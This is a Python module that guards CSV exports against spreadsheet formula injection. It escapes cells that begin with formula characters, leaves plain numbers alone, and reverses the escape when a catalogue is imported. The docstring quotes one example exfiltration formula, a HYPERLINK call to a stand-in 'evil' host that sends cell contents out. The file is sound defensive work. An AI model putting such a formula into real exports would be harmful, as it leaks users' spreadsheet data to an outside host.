"""CSV cells that a spreadsheet shows as text, never runs as a formula (OWASP "CSV injection").

Every CSV the program writes (catalogue export, hub stock export, fulfilment report) goes
through :func:`writer`. A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return would be read by Excel, LibreOffice or Google Sheets as a formula (a
product named ``=HYPERLINK("http://evil/?"&A1,"click")``), so it is written with a single
quote in front, which spreadsheets show as text.

Two choices, both deliberate:

- A cell that is a plain number (``-5``, ``+3``, ``-12.50``: digits with an optional sign
  and decimals, nothing else) is left as it is. A negative stock level must stay a number
  a spreadsheet can add up, and a plain number can run nothing. Anything more (``-2+3``,
  ``-1e5``, ``+91 98450``) gets the quote.
- A cell that already starts with a quote gets a second one, so the escape can be undone
  exactly: :func:`unescape` drops one quote before any of ``= + - @ tab CR '``. The
  catalogue import applies it, so an exported catalogue imports unchanged.

Cells are quoted by the csv module only where CSV needs it (QUOTE_MINIMAL), as before.
Lines end in CRLF (RFC 4180): with a bare ``\n`` line end Python 3.11's csv module leaves
a cell holding a carriage return unquoted, and the file no longer reads back as written.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

# The full-width forms too: some spreadsheets (and input methods) read "＝" as "=".
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def _needs_quote(text: str) -> bool:
    """Starts with a quote, or with a formula character after any whitespace (a
    spreadsheet that trims spaces on import, LibreOffice's "Trim spaces", reads
    " =1+1" as a formula); a plain number (with spaces around) is never quoted."""
    if text.startswith("'"):
        return True
    return text.lstrip().startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text.strip())


def cell(value: Any) -> Any:
    """The value as it should go into a CSV cell."""
    if not isinstance(value, str) or not _needs_quote(value):
        return value
    return "'" + value


def unescape(text: str) -> str:
    """Undo :func:`cell` on a cell read back from a CSV file."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """csv.writer that passes every cell through :func:`cell`."""

    def __init__(self, stream: Any) -> None:
        self._writer = csv.writer(stream, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: Any) -> SafeWriter:
    """The one CSV writer for exports: formula-safe cells, CRLF line ends."""
    return SafeWriter(stream)
